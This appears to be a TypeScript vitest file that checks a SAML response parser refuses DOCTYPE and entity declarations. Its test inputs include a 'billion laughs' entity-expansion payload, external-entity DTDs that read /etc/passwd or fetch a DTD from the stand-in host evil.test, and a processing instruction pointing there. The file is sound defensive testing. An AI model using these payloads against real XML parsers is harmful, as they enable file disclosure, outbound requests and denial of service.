import { describe, it } from "vitest";
import { expectRefused, goodResponse } from "./fixtures";

/**
 * DTD, entity expansion and external entities — "billion laughs" (CVE-2003-1564 in libxml2 is
 * the classic instance; OWASP "XML External Entity (XXE) Processing"); SAML SPs were hit by
 * XXE many times (e.g. CVE-2014-3660 class issues, OneLogin php-saml CVE-2016-1000253).
 * SAML messages never carry a DTD (Bindings §3.4.4, §3.5.4).
 * Closed by: xml.parseXml refuses any DOCTYPE or ENTITY/ELEMENT/ATTLIST declaration before
 * parsing, so nothing is ever expanded or fetched.
 */
const LAUGHS =
  `<!DOCTYPE r [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">` +
  `<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>`;

describe("DTD and entities", () => {
  it("billion laughs in front of a good signed response is refused before expansion", async () => {
    const xml = await goodResponse();
    await expectRefused(LAUGHS + xml.replace("alice@example.com</saml:NameID>", "&lol3;</saml:NameID>"), /DOCTYPE/);
  });

  it("an external entity (file and http) is refused", async () => {
    const xml = await goodResponse();
    for (const dtd of [`<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>`, `<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.test/x.dtd"> %p;]>`, `<!DOCTYPE r SYSTEM "http://evil.test/x.dtd">`]) {
      await expectRefused(dtd + xml, /DOCTYPE/);
    }
  });

  it("a DOCTYPE after the XML declaration, in lower case, or a processing instruction is refused", async () => {
    const xml = await goodResponse();
    await expectRefused(`<?xml version="1.0"?><!doctype r>` + xml, /DOCTYPE/);
    await expectRefused(`<?xml-stylesheet href="http://evil.test/x"?>` + xml, /processing instructions/);
  });
});
